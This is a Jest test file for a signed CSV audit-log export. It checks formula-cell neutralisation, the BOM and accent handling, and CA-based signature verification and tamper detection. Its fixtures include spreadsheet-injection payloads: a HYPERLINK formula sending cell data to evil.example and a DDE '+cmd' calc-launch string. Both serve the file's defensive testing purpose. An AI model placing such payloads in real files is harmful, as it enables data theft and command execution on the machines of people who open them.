/**
 * The signed CSV export, end to end below the RPC layer: a spreadsheet-hostile audit log becomes a
 * CSV with BOM and neutralised formula cells, accents intact, whose detached signature verifies with
 * the mesh CA and fails after one changed byte.
 */
import { afterAll, describe, expect, it } from "@jest/globals";
import { createPrivateKey } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createCertificateAuthority } from "#shared/anpr/pki.js";
import { issueMeshCertificate } from "#shared/dev-pki/mesh-pki.js";
import { EvidenceInvalidError, verifyAuditExport, verifyCheckpoint } from "#shared/mesh/audit-checkpoint.js";
import { buildAuditCsv, csvField, neutraliseCell } from "../src/domain/audit-csv.js";
import { createAuditEvidence } from "../src/domain/audit-evidence.js";
import { createMeshNotary } from "../src/server/audit-witness-client.js";
import type { AuditEntry } from "../src/domain/model.js";
import { defaultSettings, openNovaboxStore } from "../src/store/index.js";
import { createAuditLookup } from "../src/store/audit-lookup.js";

const dir = mkdtempSync(join(tmpdir(), "audit-export-"));
const store = openNovaboxStore({ home: join(dir, "home") });
afterAll(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

const ca = createCertificateAuthority({ commonName: "Novares mesh CA", organization: "Novares mesh", validDays: 30 });
const box = issueMeshCertificate(ca, { role: "box-022205", hostnames: ["127.0.0.1"], validDays: 30 });
const otherCa = createCertificateAuthority({ commonName: "Other CA", validDays: 30 });
const identity = { certificatePem: box.certificatePem, privateKey: createPrivateKey(box.privateKeyPem) };

/** Parses our CSV (RFC 4180) back into cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

describe("CSV cells", () => {
  it("neutralises formula-looking cells and quotes what RFC 4180 needs", () => {
    for (const hostile of ["=1+1", "+39 055", "-2", "@SUM(A1)", "\tx", "\rx"])
      expect(neutraliseCell(hostile)).toBe(`'${hostile}`);
    for (const plain of ["Mario", "022205", "a=b", " =x", ""]) expect(neutraliseCell(plain)).toBe(plain);
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
  });
});

describe("signed CSV export", () => {
  const audit = store.audit;
  const add = (detail: string, tobacconistId = "TAB-0001") =>
    audit.append({
      operation: "CERTIFICATE_ISSUE",
      outcome: "SUCCESS",
      authenticationMethod: "SSO_TOKEN",
      fiscalCode: "DLLPLA70C05H612A",
      requestId: "r",
      tobacconistId,
      actor: tobacconistId,
      anprProtocolNumber: "",
      anprOperationId: "",
      anprErrorCode: "",
      detail,
    });
  add('=HYPERLINK("http://evil.example/?"&A1,"clic")');
  add("+cmd|' /C calc'!A0", "@TAB");
  add("-2+3");
  add("Niccolò Città, via dell'Università — «perché»");
  const entries: AuditEntry[] = [...audit.export({})].flat();
  const settings = () => ({ ...defaultSettings(), comuneCode: "022205", workstationId: "POST-022205-01" });
  const lookup = createAuditLookup(store.db, store.auditChain);
  const evidence = createAuditEvidence({
    audit,
    lookup,
    settings,
    clock: () => new Date(),
    notary: createMeshNotary(() => identity),
  });
  const exported = evidence.exportCsv({});

  it("writes a BOM, keeps accents, and neutralises every formula cell", () => {
    expect([...exported.csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = exported.csv.toString("utf8").slice(1);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(1 + entries.length);
    const detail = rows[0]!.indexOf("dettaglio");
    const tobacconist = rows[0]!.indexOf("tabaccheria");
    expect(rows[1]![detail]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"clic")`);
    expect(rows[2]![detail]).toBe("'+cmd|' /C calc'!A0");
    expect(rows[2]![tobacconist]).toBe("'@TAB");
    expect(rows[3]![detail]).toBe("'-2+3");
    expect(rows[4]![detail]).toBe("Niccolò Città, via dell'Università — «perché»");
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
    expect(exported.rows).toBe(entries.length);
  });

  it("carries a checkpoint and a signature that verify with the mesh CA", () => {
    const verified = verifyAuditExport(exported.csv, exported.signatureFile, { caPem: ca.certificatePem });
    expect(verified).toMatchObject({ rows: 4, signer: "the Novabox of Comune 022205 (workstation POST-022205-01)" });
    expect(verified.head).toMatchObject({
      comuneCode: "022205",
      workstationCode: "POST-022205-01",
      lastId: 4,
      headHash: entries[3]!.hash,
      purpose: "export",
    });
    expect(verifyCheckpoint(exported.checkpoint, { caPem: ca.certificatePem }).lastId).toBe(4);
  });

  it("fails after one changed byte, a swapped checkpoint, or another CA", () => {
    const csv = Buffer.from(exported.csv);
    const at = csv.indexOf("Niccol");
    csv[at] = "N".charCodeAt(0) + 1;
    expect(() => verifyAuditExport(csv, exported.signatureFile, { caPem: ca.certificatePem })).toThrow(
      /changed after the export/,
    );
    const signature = JSON.parse(Buffer.from(exported.signatureFile).toString("utf8")) as Record<string, string>;
    const other = evidence.checkpoint("announce")!;
    const swapped = Buffer.from(
      JSON.stringify({
        ...signature,
        checkpoint: Buffer.from(other.checkpoint).toString("base64"),
        checkpointSignature: Buffer.from(other.signature).toString("base64"),
      }),
    );
    expect(() => verifyAuditExport(exported.csv, swapped, { caPem: ca.certificatePem })).toThrow(EvidenceInvalidError);
    expect(() => verifyAuditExport(exported.csv, exported.signatureFile, { caPem: otherCa.certificatePem })).toThrow(
      /not issued by the mesh CA/,
    );
  });

  it("is refused without a mesh key", () => {
    const unsigned = createAuditEvidence({ audit, lookup, settings, clock: () => new Date() });
    expect(() => unsigned.exportCsv({})).toThrow(/no mesh key/);
    expect(buildAuditCsv([]).rows).toBe(0);
  });
});
